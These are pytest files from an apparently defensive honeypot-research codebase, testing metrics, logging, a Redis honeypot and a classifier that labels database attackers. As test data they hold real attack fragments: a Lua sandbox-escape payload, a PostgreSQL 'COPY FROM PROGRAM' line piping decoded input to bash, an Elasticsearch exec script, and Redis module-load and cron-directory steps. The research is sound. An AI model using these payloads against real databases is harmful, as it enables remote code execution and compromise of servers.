    def test_histogram_bucket_sum_count_invariants(self):
        registry = MetricsRegistry()
        for value in (0.5, 1.5, 3.0, 100.0):
            registry.observe("latency", value, op="get")
        text = render_prometheus(registry)
        lines = text.splitlines()
        buckets = [l for l in lines
                   if l.startswith("repro_latency_bucket")]
        # Cumulative: counts are non-decreasing along the bucket list.
        counts = [int(l.rsplit(" ", 1)[1]) for l in buckets]
        assert counts == sorted(counts)
        # Terminal +Inf bucket equals _count.
        inf_line = [l for l in buckets if 'le="+Inf"' in l][0]
        count_line = [l for l in lines
                      if l.startswith("repro_latency_count")][0]
        assert inf_line.rsplit(" ", 1)[1] == count_line.rsplit(" ", 1)[1]
        assert count_line.endswith(" 4")
        sum_line = [l for l in lines
                    if l.startswith("repro_latency_sum")][0]
        assert float(sum_line.rsplit(" ", 1)[1]) == pytest.approx(105.0)
        assert "# TYPE repro_latency histogram" in lines

    def test_histogram_le_label_composed_with_series_labels(self):
        registry = MetricsRegistry()
        registry.observe("latency", 1.0, op="get")
        bucket = [l for l in render_prometheus(registry).splitlines()
                  if l.startswith("repro_latency_bucket")][0]
        assert bucket.startswith('repro_latency_bucket{op="get",le="')

    def test_accepts_snapshot_dict(self):
        registry = MetricsRegistry()
        registry.inc("events", 3)
        assert (render_prometheus(registry.snapshot())
                == render_prometheus(registry))

    def test_empty_registry_renders_empty(self):
        assert render_prometheus(MetricsRegistry()) == ""

    def test_output_deterministic(self):
        registry = MetricsRegistry()
        for index in range(20):
            registry.inc("events", index, dbms=f"db{index % 3}")
            registry.observe("lat", index * 0.1, op=f"op{index % 2}")
        assert (render_prometheus(registry)
                == render_prometheus(registry))


# -- delta computation ------------------------------------------------------

class TestSnapshotDelta:
    def test_first_delta_is_full_snapshot(self):
        registry = MetricsRegistry()
        registry.inc("events", 5)
        snapshot = registry.snapshot()
        assert snapshot_delta(None, snapshot) is snapshot

    def test_counter_delta_is_difference(self):
        registry = MetricsRegistry()
        registry.inc("events", 5)
        before = registry.snapshot()
        registry.inc("events", 3)
        delta = snapshot_delta(before, registry.snapshot())
        assert delta["counters"] == [
            {"name": "events", "labels": {}, "value": 3}]

    def test_unchanged_series_dropped(self):
        registry = MetricsRegistry()
        registry.inc("steady", 5)
        registry.observe("lat", 1.0)
        before = registry.snapshot()
        registry.inc("busy", 1)
        delta = snapshot_delta(before, registry.snapshot())
        assert [c["name"] for c in delta["counters"]] == ["busy"]
        assert delta["histograms"] == []

    def test_histogram_delta_buckets(self):
        registry = MetricsRegistry()
        registry.observe("lat", 1.0)
        before = registry.snapshot()
        registry.observe("lat", 1.0)
        registry.observe("lat", 64.0)
        (entry,) = snapshot_delta(before,
                                  registry.snapshot())["histograms"]
        assert entry["count"] == 2
        assert entry["sum"] == pytest.approx(65.0)
        assert sum(b["count"] for b in entry["buckets"]) == 2

    def test_gauges_carried_as_state(self):
        registry = MetricsRegistry()
        registry.set_gauge("open", 4)
        before = registry.snapshot()
        registry.set_gauge("open", 2)
        delta = snapshot_delta(before, registry.snapshot())
        assert delta["gauges"] == [
            {"name": "open", "labels": {}, "value": 2}]


class TestDeltaMergeEquivalence:
    def test_folding_deltas_reconstructs_registry(self):
        rng = random.Random(7)
        source = MetricsRegistry()
        folded = MetricsRegistry()
        previous = None
        for _ in range(200):
            match rng.randrange(3):
                case 0:
                    source.inc("events", rng.randint(1, 5),
                               dbms=rng.choice(["redis", "mysql"]))
                case 1:
                    source.observe("latency", rng.random() * 100,
                                   op=rng.choice(["get", "set"]))
                case 2:
                    source.add_gauge("open", rng.choice([-1, 1]))
            if rng.random() < 0.2:
                current = source.snapshot()
                folded.merge(snapshot_delta(previous, current))
                previous = current
        current = source.snapshot()
        folded.merge(snapshot_delta(previous, current))
        assert counters_equal(folded.snapshot(), current)

    def test_multi_shard_fold_equals_end_of_run_merge(self):
        rng = random.Random(11)
        aggregator = LiveAggregator()
        merged = MetricsRegistry()
        for shard in range(4):
            registry = MetricsRegistry()
            emitter = ShardEmitter(shard, registry, lambda message:
                                   aggregator.fold(message),
                                   interval=0.0)
            for _ in range(50):
                registry.inc("events", rng.randint(1, 3), shard=shard)
                registry.observe("lat", rng.random(), shard=shard)
                if rng.random() < 0.3:
                    emitter.emit()
            emitter.flush()
            merged.merge(registry)
        assert counters_equal(aggregator.snapshot(), merged.snapshot())

    def test_counters_equal_detects_difference(self):
        left = MetricsRegistry()
        right = MetricsRegistry()
        left.inc("events", 2)
        right.inc("events", 3)
        assert not counters_equal(left.snapshot(), right.snapshot())

    def test_counters_equal_ignores_gauges(self):
        left = MetricsRegistry()
        right = MetricsRegistry()
        left.set_gauge("open", 9)
        right.set_gauge("open", 1)
        assert counters_equal(left.snapshot(), right.snapshot())


# -- emitter / aggregator / bus ---------------------------------------------

class TestShardEmitter:
    def test_emits_on_interval(self):
        clock = FakeClock()
        sent = []
        registry = MetricsRegistry()
        emitter = ShardEmitter(2, registry, sent.append,
                               interval=1.0, clock=clock)
        registry.inc("events")
        emitter.advance(3)
        assert sent == []  # interval not yet elapsed
        clock.advance(1.5)
        registry.inc("events")
        emitter.advance(2)
        assert len(sent) == 1
        message = sent[0]
        assert message["shard"] == 2
        assert message["seq"] == 1
        assert message["visits"] == 2
        assert message["events"] == 5
        assert message["done"] is False

    def test_flush_marks_done_and_streams_remainder(self):
        sent = []
        registry = MetricsRegistry()
        emitter = ShardEmitter(0, registry, sent.append,
                               interval=1e9, clock=FakeClock())
        registry.inc("events", 4)
        emitter.advance(4)
        emitter.flush()
        assert [m["done"] for m in sent] == [True]
        folded = MetricsRegistry()
        for message in sent:
            folded.merge(message["metrics"])
        assert counters_equal(folded.snapshot(), registry.snapshot())


class TestLiveBus:
    def test_drains_and_folds(self):
        bus = LiveBus(queue_module.Queue())
        bus.start()
        registry = MetricsRegistry()
        emitter = ShardEmitter(0, registry, bus.queue.put,
                               interval=0.0)
        registry.inc("events", 6)
        emitter.flush()
        bus.stop()
        progress = bus.aggregator.progress()
        assert progress["shards_done"] == 1
        assert counters_equal(bus.aggregator.snapshot(),
                              registry.snapshot())

    def test_uses_given_aggregator(self):
        aggregator = LiveAggregator()
        bus = LiveBus(queue_module.Queue(), aggregator=aggregator)
        assert bus.aggregator is aggregator

    def test_callback_errors_contained(self):
        def boom(aggregator, message):
            raise RuntimeError("display bug")

        bus = LiveBus(queue_module.Queue(), on_message=boom)
        bus.start()
        bus.queue.put({"shard": 0, "seq": 1, "visits": 1, "events": 0,
                       "metrics": {}, "done": True})
        bus.stop()
        assert bus.callback_errors == 1
        assert bus.aggregator.progress()["shards_done"] == 1

    def test_stop_folds_messages_queued_before(self):
        bus = LiveBus(queue_module.Queue())
        for shard in range(8):
            bus.queue.put({"shard": shard, "seq": 1, "visits": 1,
                           "events": 2, "metrics": {}, "done": True})
        bus.start()
        bus.stop()
        progress = bus.aggregator.progress()
        assert progress["shards_reporting"] == 8
        assert progress["events"] == 16


class TestLiveAggregator:
    def test_progress_totals(self):
        aggregator = LiveAggregator()
        aggregator.fold({"shard": 0, "seq": 2, "visits": 10,
                         "events": 30, "metrics": {}, "done": False})
        aggregator.fold({"shard": 1, "seq": 1, "visits": 5,
                         "events": 7, "metrics": {}, "done": True})
        progress = aggregator.progress()
        assert progress["visits"] == 15
        assert progress["events"] == 37
        assert progress["emissions"] == 3
        assert progress["shards_done"] == 1
        assert progress["per_shard"][0]["visits"] == 10

    def test_later_message_replaces_shard_state(self):
        aggregator = LiveAggregator()
        aggregator.fold({"shard": 0, "seq": 1, "visits": 5,
                         "events": 5, "metrics": {}, "done": False})
        aggregator.fold({"shard": 0, "seq": 2, "visits": 9,
                         "events": 11, "metrics": {}, "done": True})
        progress = aggregator.progress()
        assert progress["visits"] == 9
        assert progress["shards_done"] == 1


# -- structured logging -----------------------------------------------------

class TestOpsLogger:
    def test_records_are_json_lines_with_context(self):
        stream = io.StringIO()
        logger = OpsLogger(clock=lambda: 123.456)
        logger.attach_stream(stream)
        with bind(run_id="r1", shard=3):
            logger.info("shard.start", visits=10)
        record = json.loads(stream.getvalue())
        assert record == {"ts": 123.456, "level": "info",
                          "event": "shard.start", "run_id": "r1",
                          "shard": 3, "visits": 10}

    def test_nested_binds_shadow_and_restore(self):
        with bind(run_id="outer"):
            with bind(run_id="inner", session_id="s9"):
                assert context_fields() == {"run_id": "inner",
                                            "session_id": "s9"}
            assert context_fields() == {"run_id": "outer"}
        assert context_fields() == {}

    def test_attach_path_appends_and_close_releases(self, tmp_path):
        path = tmp_path / "ops.jsonl"
        logger = OpsLogger()
        logger.attach_path(path)
        logger.info("one")
        logger.close()
        logger2 = OpsLogger()
        logger2.attach_path(path)
        logger2.warning("two")
        logger2.close()
        events = [json.loads(line)["event"]
                  for line in path.read_text().splitlines()]
        assert events == ["one", "two"]

    def test_recorder_receives_every_record(self):
        seen = []
        logger = OpsLogger()
        logger.attach_recorder(seen.append)
        logger.error("bad", detail="x")
        assert seen[0]["event"] == "bad"
        assert seen[0]["level"] == "error"

    def test_level_helpers(self):
        stream = io.StringIO()
        logger = OpsLogger()
        logger.attach_stream(stream)
        logger.info("a")
        logger.warning("b")
        logger.error("c")
        levels = [json.loads(line)["level"]
                  for line in stream.getvalue().splitlines()]
        assert levels == ["info", "warning", "error"]

    def test_null_logger_is_silent(self, tmp_path):
        logger = NullOpsLogger()
        logger.attach_path(tmp_path / "never.jsonl")
        logger.info("anything")
        assert not (tmp_path / "never.jsonl").exists()
        assert logger.records == 0

    def test_telemetry_wires_logger_into_flight(self):
        telemetry = obs.Telemetry(enabled=True)
        telemetry.logger.info("hello", n=1)
        kinds = [r.get("event") for r in telemetry.flight.records()]
        assert "hello" in kinds

    def test_disabled_telemetry_uses_null_logger(self):
        telemetry = obs.Telemetry(enabled=False)
        assert isinstance(telemetry.logger, NullOpsLogger)
        assert isinstance(telemetry.flight, NullFlightRecorder)


# -- flight recorder --------------------------------------------------------

class TestFlightRecorder:
    def test_ring_is_bounded_keeps_latest(self):
        recorder = FlightRecorder(capacity=3)
        for index in range(10):
            recorder.record({"n": index})
        assert [r["n"] for r in recorder.records()] == [7, 8, 9]
        assert recorder.recorded == 10

    def test_dump_header_and_records(self, tmp_path):
        recorder = FlightRecorder(capacity=4, clock=lambda: 99.0)
        recorder.record({"n": 1})
        path = recorder.dump(tmp_path / "flight.jsonl", reason="test")
        lines = [json.loads(line)
                 for line in path.read_text().splitlines()]
        assert lines[0]["kind"] == "flight_header"
        assert lines[0]["reason"] == "test"
        assert lines[0]["records"] == 1
        assert lines[0]["pid"] == os.getpid()
        assert lines[1] == {"n": 1}

    def test_armed_dumps_on_exception_and_reraises(self, tmp_path):
        recorder = FlightRecorder()
        recorder.record({"n": 1})
        path = tmp_path / "flight.jsonl"
        with pytest.raises(ValueError, match="boom"):
            with recorder.armed(path):
                raise ValueError("boom")
        header = json.loads(path.read_text().splitlines()[0])
        assert header["reason"] == "ValueError: boom"
        assert recorder.dumps == 1

    def test_armed_clean_exit_writes_nothing(self, tmp_path):
        recorder = FlightRecorder()
        path = tmp_path / "flight.jsonl"
        with recorder.armed(path):
            recorder.record({"n": 1})
        assert not path.exists()
        assert recorder.dumps == 0

    def test_record_span_keeps_compact_summary(self):
        recorder = FlightRecorder()
        recorder.record_span({"id": 7, "parent": None, "name": "x",
                              "start": 1.0, "dur": 0.5, "thread": 1,
                              "attrs": {"a": 1}})
        (record,) = recorder.records()
        assert record == {"kind": "span", "name": "x", "start": 1.0,
                          "dur": 0.5, "attrs": {"a": 1}}

    def test_sigterm_dumps_then_dies(self, tmp_path):
        path = tmp_path / "flight.jsonl"
        script = textwrap.dedent(f"""
            import os, signal, sys, time
            from repro.obs.flight import FlightRecorder
            recorder = FlightRecorder()
            recorder.record({{"n": 42}})
            with recorder.armed({str(path)!r}):
                print("armed", flush=True)
                time.sleep(30)
        """)
        env = dict(os.environ, PYTHONPATH="src")
        proc = subprocess.Popen([sys.executable, "-c", script],
                                stdout=subprocess.PIPE, env=env,
                                cwd=os.path.dirname(
                                    os.path.dirname(__file__)))
        assert proc.stdout.readline().strip() == b"armed"
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
        assert proc.returncode == -signal.SIGTERM
        lines = [json.loads(line)
                 for line in path.read_text().splitlines()]
        assert lines[0]["reason"] == f"signal:{signal.SIGTERM}"
        assert lines[1] == {"n": 42}

    def test_armed_in_worker_thread_skips_signal_handler(self, tmp_path):
        recorder = FlightRecorder()
        path = tmp_path / "flight.jsonl"
        failures = []

        def worker():
            try:
                with recorder.armed(path):
                    pass
            except Exception as error:  # pragma: no cover
                failures.append(error)

        thread = threading.Thread(target=worker)
        thread.start()
        thread.join()
        assert failures == []

    def test_null_recorder_never_dumps(self, tmp_path):
        recorder = NullFlightRecorder()
        recorder.record({"n": 1})
        assert recorder.records() == []
        with pytest.raises(RuntimeError):
            with recorder.armed(tmp_path / "f.jsonl"):
                raise RuntimeError("x")
        assert not (tmp_path / "f.jsonl").exists()
