"""Tests for the scanning/scouting/exploiting classifier."""

import pytest

from repro.core.classification import (BehaviorClass, Classification,
                                       class_counts, classify_ips,
                                       classify_profile, primary_counts)
from repro.core.loading import IpProfile


def profile(dbms="redis", actions=(), raws=(), logins=0,
            ip="1.2.3.4") -> IpProfile:
    p = IpProfile(src_ip=ip, dbms=dbms)
    p.actions = list(actions)
    p.raws = list(raws)
    p.login_attempts = logins
    p.connects = 1
    return p


class TestRules:
    def test_connect_only_is_scanning(self):
        c = classify_profile(profile())
        assert c.classes == frozenset({BehaviorClass.SCANNING})
        assert c.primary is BehaviorClass.SCANNING

    def test_login_attempt_is_scouting(self):
        c = classify_profile(profile(logins=1, actions=["LOGIN sa"]))
        assert c.primary is BehaviorClass.SCOUTING
        assert BehaviorClass.SCANNING in c.classes

    def test_readonly_commands_are_scouting(self):
        c = classify_profile(profile(actions=["INFO", "KEYS", "TYPE"]))
        assert c.primary is BehaviorClass.SCOUTING

    def test_redis_state_change_is_exploiting(self):
        c = classify_profile(profile(actions=["INFO", "CONFIG SET",
                                              "SAVE"]))
        assert c.primary is BehaviorClass.EXPLOITING
        assert c.classes == frozenset(BehaviorClass)

    def test_slaveof_module_load_exploiting(self):
        c = classify_profile(profile(actions=["SLAVEOF", "MODULE LOAD"]))
        assert c.primary is BehaviorClass.EXPLOITING

    def test_psql_copy_from_program_exploiting(self):
        c = classify_profile(profile(dbms="postgresql",
                                     actions=["COPY FROM PROGRAM"]))
        assert c.primary is BehaviorClass.EXPLOITING

    def test_psql_select_only_scouting(self):
        c = classify_profile(profile(dbms="postgresql",
                                     actions=["SELECT VERSION"]))
        assert c.primary is BehaviorClass.SCOUTING

    def test_mongo_drop_exploiting(self):
        c = classify_profile(profile(dbms="mongodb",
                                     actions=["listDatabases", "drop"]))
        assert c.primary is BehaviorClass.EXPLOITING

    def test_mongo_enumeration_scouting(self):
        c = classify_profile(profile(dbms="mongodb",
                                     actions=["listDatabases", "find"]))
        assert c.primary is BehaviorClass.SCOUTING

    def test_elastic_reads_scouting(self):
        c = classify_profile(profile(dbms="elasticsearch",
                                     actions=["GET /_nodes"]))
        assert c.primary is BehaviorClass.SCOUTING

    def test_elastic_rce_payload_exploiting(self):
        c = classify_profile(profile(
            dbms="elasticsearch", actions=["GET /_search"],
            raws=['{"script":"Runtime.getRuntime().exec(\\"curl\\")"}']))
        assert c.primary is BehaviorClass.EXPLOITING

    def test_lua_escape_payload_exploiting(self):
        c = classify_profile(profile(
            actions=["EVAL"],
            raws=['package.loadlib("liblua5.1", "luaopen_io")']))
        assert c.primary is BehaviorClass.EXPLOITING

    def test_malformed_probe_is_scouting(self):
        p = profile()
        p.malformed = 1
        p.actions = ["MALFORMED abc"]
        assert classify_profile(p).primary is BehaviorClass.SCOUTING

    def test_exploit_actions_are_dbms_specific(self):
        # "drop" exploits MongoDB, but means nothing on Redis.
        c = classify_profile(profile(dbms="redis", actions=["drop"]))
        assert c.primary is BehaviorClass.SCOUTING


class TestAggregation:
    def build(self):
        profiles = {
            ("a", "redis"): profile(ip="a"),
            ("b", "redis"): profile(ip="b", actions=["INFO"]),
            ("c", "redis"): profile(ip="c", actions=["CONFIG SET"]),
            ("d", "mongodb"): profile(ip="d", dbms="mongodb"),
        }
        return profiles, classify_ips(profiles)

    def test_primary_counts_partition_population(self):
        _profiles, classifications = self.build()
        counts = primary_counts(classifications, "redis")
        assert counts[BehaviorClass.SCANNING] == 1
        assert counts[BehaviorClass.SCOUTING] == 1
        assert counts[BehaviorClass.EXPLOITING] == 1
        assert sum(counts.values()) == 3

    def test_cumulative_counts_nest(self):
        _profiles, classifications = self.build()
        counts = class_counts(classifications, "redis")
        assert counts[BehaviorClass.SCANNING] == 3
        assert counts[BehaviorClass.SCOUTING] == 2
        assert counts[BehaviorClass.EXPLOITING] == 1

    def test_counts_filter_by_dbms(self):
        _profiles, classifications = self.build()
        counts = primary_counts(classifications, "mongodb")
        assert sum(counts.values()) == 1


def test_classification_primary_ordering():
    c = Classification("x", "redis", frozenset(BehaviorClass))
    assert c.primary is BehaviorClass.EXPLOITING
