"""Unit tests for the institutional deep-probing report (§6.1)."""

from repro.core.loading import IpProfile
from repro.core.reports import institutional_probing


def profile(ip, dbms, actions=(), institutional=False) -> IpProfile:
    p = IpProfile(src_ip=ip, dbms=dbms, institutional=institutional)
    p.actions = list(actions)
    p.connects = 1
    return p


def test_counts_split_by_class():
    profiles = {
        ("a", "mongodb"): profile("a", "mongodb", institutional=True),
        ("b", "mongodb"): profile("b", "mongodb",
                                  actions=["isMaster"],
                                  institutional=True),
        ("c", "mongodb"): profile("c", "mongodb"),
    }
    (row,) = institutional_probing(profiles)
    assert row.dbms == "mongodb"
    assert row.scanners == 2              # a (inst) + c (non-inst)
    assert row.institutional_scanners == 1
    assert row.institutional_scouting == 1
    assert row.deep_probing_ips == 0


def test_deep_probing_detected():
    profiles = {
        ("a", "mongodb"): profile(
            "a", "mongodb",
            actions=["isMaster", "listDatabases", "listCollections",
                     "listCollections"],
            institutional=True),
        ("b", "mongodb"): profile("b", "mongodb",
                                  actions=["listDatabases"]),
    }
    (row,) = institutional_probing(profiles)
    # Only institutional actors count toward the privacy concern.
    assert row.deep_probing_ips == 1
    assert row.deep_actions == {"listDatabases": 1,
                                "listCollections": 2}


def test_per_dbms_action_sets():
    profiles = {
        ("a", "redis"): profile("a", "redis", actions=["KEYS", "TYPE"],
                                institutional=True),
        ("b", "elasticsearch"): profile(
            "b", "elasticsearch", actions=["GET /_mapping"],
            institutional=True),
    }
    rows = {row.dbms: row for row in institutional_probing(profiles)}
    assert rows["redis"].deep_probing_ips == 1
    assert "KEYS" in rows["redis"].deep_actions
    assert "TYPE" not in rows["redis"].deep_actions  # TYPE alone is ok
    assert rows["elasticsearch"].deep_probing_ips == 1


def test_empty_profiles():
    assert institutional_probing({}) == []
