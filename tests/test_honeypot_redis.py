"""Tests for the medium-interaction Redis honeypot."""

import pytest

from repro.honeypots import RedisHoneypot
from repro.honeypots.base import MemoryWire
from repro.honeypots.redis_honeypot import FAKE_LOGIN_ENTRIES
from repro.pipeline.logstore import EventType
from repro.protocols import resp


def decode(data: bytes):
    values = resp.RespParser().feed(data)
    assert len(values) == 1, values
    return values[0]


@pytest.fixture
def wire(session_context):
    wire = MemoryWire(RedisHoneypot("hp"), session_context)
    wire.connect()
    return wire


class TestBasicCommands:
    def test_ping(self, wire):
        assert decode(wire.send(resp.encode_command("PING"))).value == \
            "PONG"

    def test_ping_with_message(self, wire):
        assert decode(wire.send(resp.encode_command("PING", "hi"))) == \
            b"hi"

    def test_echo(self, wire):
        assert decode(wire.send(resp.encode_command("ECHO", "x"))) == b"x"

    def test_set_get_del(self, wire):
        assert decode(wire.send(resp.encode_command("SET", "k", "v"))
                      ).value == "OK"
        assert decode(wire.send(resp.encode_command("GET", "k"))) == b"v"
        assert decode(wire.send(resp.encode_command("DEL", "k"))) == 1
        assert decode(wire.send(resp.encode_command("GET", "k"))) is None

    def test_keys_and_dbsize(self, wire):
        wire.send(resp.encode_command("SET", "a", "1"))
        wire.send(resp.encode_command("SET", "b", "2"))
        assert decode(wire.send(resp.encode_command("KEYS", "*"))) == [
            b"a", b"b"]
        assert decode(wire.send(resp.encode_command("DBSIZE"))) == 2

    def test_type(self, wire):
        wire.send(resp.encode_command("SET", "s", "v"))
        assert decode(wire.send(resp.encode_command("TYPE", "s"))
                      ).value == "string"
        assert decode(wire.send(resp.encode_command("TYPE", "missing"))
                      ).value == "none"

    def test_flushdb(self, wire):
        wire.send(resp.encode_command("SET", "a", "1"))
        wire.send(resp.encode_command("FLUSHDB"))
        assert decode(wire.send(resp.encode_command("DBSIZE"))) == 0

    def test_unknown_command_errors(self, wire):
        reply = decode(wire.send(resp.encode_command("NOPE")))
        assert isinstance(reply, resp.Error)
        assert "unknown command" in reply.message

    def test_wrong_arity_errors(self, wire):
        reply = decode(wire.send(resp.encode_command("GET")))
        assert isinstance(reply, resp.Error)
        assert "wrong number of arguments" in reply.message

    def test_quit_closes(self, wire):
        wire.send(resp.encode_command("QUIT"))
        assert wire.server_closed

    def test_inline_commands_work(self, wire):
        assert b"/var/lib/redis" in wire.send(b"CONFIG GET dir\r\n")


class TestAttackSurface:
    def test_config_set_persists(self, wire):
        wire.send(resp.encode_command("CONFIG", "SET", "dir",
                                      "/var/spool/cron"))
        reply = decode(wire.send(resp.encode_command("CONFIG", "GET",
                                                     "dir")))
        assert reply == [b"dir", b"/var/spool/cron"]

    def test_slaveof_changes_role(self, wire):
        wire.send(resp.encode_command("SLAVEOF", "1.2.3.4", "6379"))
        info = decode(wire.send(resp.encode_command("INFO")))
        assert b"role:slave" in info
        wire.send(resp.encode_command("SLAVEOF", "NO", "ONE"))
        info = decode(wire.send(resp.encode_command("INFO")))
        assert b"role:master" in info

    def test_module_load_enables_system_exec(self, wire):
        reply = decode(wire.send(resp.encode_command("system.exec", "id")))
        assert isinstance(reply, resp.Error)
        wire.send(resp.encode_command("MODULE", "LOAD", "/tmp/exp.so"))
        reply = decode(wire.send(resp.encode_command("system.exec", "id")))
        assert not isinstance(reply, resp.Error)

    def test_module_unload(self, wire):
        wire.send(resp.encode_command("MODULE", "LOAD", "/tmp/exp.so"))
        assert decode(wire.send(resp.encode_command(
            "MODULE", "UNLOAD", "system"))).value == "OK"

    def test_eval_cve_payload_gets_fake_id_output(self, wire):
        payload = ('local io_l = package.loadlib("liblua5.1.so.0", '
                   '"luaopen_io"); local f = io.popen("id", "r");')
        reply = decode(wire.send(resp.encode_command("EVAL", payload,
                                                     "0")))
        assert b"uid=" in reply

    def test_eval_benign_returns_null(self, wire):
        assert decode(wire.send(resp.encode_command(
            "EVAL", "return 1", "0"))) is None

    def test_client_list_shows_peer(self, wire, session_context):
        reply = decode(wire.send(resp.encode_command("CLIENT", "LIST")))
        assert session_context.src_ip.encode() in reply

    def test_save_and_bgsave(self, wire):
        assert decode(wire.send(resp.encode_command("SAVE"))).value == \
            "OK"
        assert "saving" in decode(wire.send(
            resp.encode_command("BGSAVE"))).value.lower()

    def test_auth_logged_open_server(self, wire, log_store):
        wire.send(resp.encode_command("AUTH", "guessme"))
        logins = [e for e in log_store
                  if e.event_type == EventType.LOGIN_ATTEMPT.value]
        assert logins and logins[0].password == "guessme"


class TestConfigurations:
    def test_default_config_is_empty(self, session_context):
        wire = MemoryWire(RedisHoneypot("hp", config="default"),
                          session_context)
        wire.connect()
        assert decode(wire.send(resp.encode_command("DBSIZE"))) == 0

    def test_fake_data_config_has_200_entries(self, session_context):
        wire = MemoryWire(RedisHoneypot("hp", config="fake_data"),
                          session_context)
        wire.connect()
        keys = decode(wire.send(resp.encode_command("KEYS", "*")))
        assert len(keys) == FAKE_LOGIN_ENTRIES
        value = decode(wire.send(resp.encode_command("GET", keys[0])))
        assert value

    def test_unknown_config_rejected(self):
        with pytest.raises(ValueError):
            RedisHoneypot("hp", config="bogus")

    def test_engine_shared_across_sessions(self, session_context, clock,
                                           log_store):
        from repro.honeypots.base import SessionContext

        honeypot = RedisHoneypot("hp")
        wire1 = MemoryWire(honeypot, session_context)
        wire1.connect()
        wire1.send(resp.encode_command("SET", "persist", "yes"))
        wire1.close()
        context2 = SessionContext("198.51.100.9", 1234, clock,
                                  log_store.append)
        wire2 = MemoryWire(honeypot, context2)
        wire2.connect()
        assert decode(wire2.send(resp.encode_command("GET", "persist"))
                      ) == b"yes"


def test_actions_logged_with_subcommands(session_context, log_store):
    wire = MemoryWire(RedisHoneypot("hp"), session_context)
    wire.connect()
    wire.send(resp.encode_command("CONFIG", "SET", "dir", "/tmp"))
    wire.send(resp.encode_command("MODULE", "LOAD", "/tmp/exp.so"))
    actions = [e.action for e in log_store
               if e.event_type == EventType.COMMAND.value]
    assert "CONFIG SET" in actions
    assert "MODULE LOAD" in actions
