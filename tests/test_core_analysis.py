"""Tests for retention, temporal, intersections, brute-force stats and
campaign summary -- on small hand-built datasets."""

import pytest

from repro.core.campaigns import (CampaignRow, campaign_summary,
                                  ransom_templates, tag_profile)
from repro.core.classification import BehaviorClass, classify_ips
from repro.core.intersections import upset_intersections
from repro.core.loading import IpProfile
from repro.core.retention import (retention_by_class, retention_by_dbms,
                                  retention_overall, single_day_fraction)
from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.convert import convert_to_sqlite
from repro.pipeline.logstore import LogEvent


def profile(ip, dbms, days, actions=(), country="Unknown",
            as_type="Unknown") -> IpProfile:
    p = IpProfile(src_ip=ip, dbms=dbms, country=country, as_type=as_type)
    p.days_seen = set(days)
    p.actions = list(actions)
    p.connects = 1
    return p


class TestRetention:
    def test_cdf_points_monotone(self):
        profiles = {("a", "redis"): profile("a", "redis", [0]),
                    ("b", "redis"): profile("b", "redis", [0, 1, 2]),
                    ("c", "redis"): profile("c", "redis", [0, 5])}
        cdf = retention_by_dbms(profiles)["redis"]
        assert cdf.population == 3
        assert cdf.at(1) == pytest.approx(1 / 3)
        assert cdf.at(2) == pytest.approx(2 / 3)
        assert cdf.at(3) == 1.0
        assert cdf.at(0) == 0.0

    def test_mean_days(self):
        profiles = {("a", "redis"): profile("a", "redis", [0]),
                    ("b", "redis"): profile("b", "redis", [0, 1, 2])}
        cdf = retention_by_dbms(profiles)["redis"]
        assert cdf.mean_days() == pytest.approx(2.0)

    def test_overall_unions_days_across_services(self):
        profiles = {("a", "redis"): profile("a", "redis", [0]),
                    ("a", "mysql"): profile("a", "mysql", [1])}
        cdf = retention_overall(profiles)
        assert cdf.population == 1
        assert cdf.at(1) == 0.0
        assert cdf.at(2) == 1.0

    def test_single_day_fraction(self):
        profiles = {("a", "redis"): profile("a", "redis", [0]),
                    ("b", "redis"): profile("b", "redis", [1, 2])}
        assert single_day_fraction(retention_overall(profiles)) == 0.5

    def test_by_class_uses_most_severe(self):
        profiles = {
            ("a", "redis"): profile("a", "redis", [0]),
            ("a", "postgresql"): profile("a", "postgresql", [1, 2],
                                         actions=["COPY FROM PROGRAM"]),
        }
        cdfs = retention_by_class(profiles, classify_ips(profiles))
        assert cdfs[BehaviorClass.EXPLOITING].population == 1
        assert cdfs[BehaviorClass.SCANNING].population == 0
        # Union of days across both services: 3 days.
        assert cdfs[BehaviorClass.EXPLOITING].at(3) == 1.0

    def test_empty_cdf(self):
        cdf = retention_by_class({}, {})
        assert cdf[BehaviorClass.SCANNING].population == 0
        assert cdf[BehaviorClass.SCANNING].at(5) == 0.0


class TestIntersections:
    def test_exact_combinations(self):
        profiles = {
            ("a", "redis"): profile("a", "redis", [0]),
            ("a", "postgresql"): profile("a", "postgresql", [0]),
            ("b", "redis"): profile("b", "redis", [0]),
            ("c", "mongodb"): profile("c", "mongodb", [0]),
        }
        upset = upset_intersections(profiles)
        assert upset.count("redis", "postgresql") == 1
        assert upset.count("redis") == 1
        assert upset.count("mongodb") == 1
        assert upset.count("postgresql") == 0
        assert upset.total_unique() == 3

    def test_per_family_totals_count_overlaps(self):
        profiles = {
            ("a", "redis"): profile("a", "redis", [0]),
            ("a", "postgresql"): profile("a", "postgresql", [0]),
        }
        totals = upset_intersections(profiles).per_family_totals()
        assert totals == {"postgresql": 1, "redis": 1}

    def test_single_family_fraction(self):
        profiles = {
            ("a", "redis"): profile("a", "redis", [0]),
            ("b", "redis"): profile("b", "redis", [0]),
            ("c", "redis"): profile("c", "redis", [0]),
            ("c", "mongodb"): profile("c", "mongodb", [0]),
        }
        upset = upset_intersections(profiles)
        assert upset.single_family_fraction() == pytest.approx(2 / 3)

    def test_rows_sorted_by_count(self):
        profiles = {
            ("a", "redis"): profile("a", "redis", [0]),
            ("b", "redis"): profile("b", "redis", [0]),
            ("c", "mongodb"): profile("c", "mongodb", [0]),
        }
        rows = upset_intersections(profiles).rows()
        assert rows[0] == ("redis", 2)

    def test_empty(self):
        upset = upset_intersections({})
        assert upset.total_unique() == 0
        assert upset.single_family_fraction() == 0.0


class TestCampaignSummary:
    def test_rows_grouped_and_ordered(self):
        kinsing = profile("k", "postgresql", [0],
                          actions=["COPY FROM PROGRAM"])
        kinsing.raws = ["COPY t FROM PROGRAM 'echo x|base64 -d|bash'"]
        rdp = profile("r", "postgresql", [0])
        rdp.raws = ["Cookie: mstshash=Administr"]
        profiles = {("k", "postgresql"): kinsing,
                    ("r", "postgresql"): rdp}
        rows = campaign_summary(profiles)
        tags = [row.tag for row in rows]
        assert tags == ["RDP scanning", "Kinsing malware"]

    def test_cluster_counts(self):
        a = profile("a", "mongodb", [0])
        a.raws = ["pay 1 BTC now"]
        b = profile("b", "mongodb", [0])
        b.raws = ["pay 2 BTC now"]
        profiles = {("a", "mongodb"): a, ("b", "mongodb"): b}
        labels = {("a", "mongodb"): 0, ("b", "mongodb"): 1}
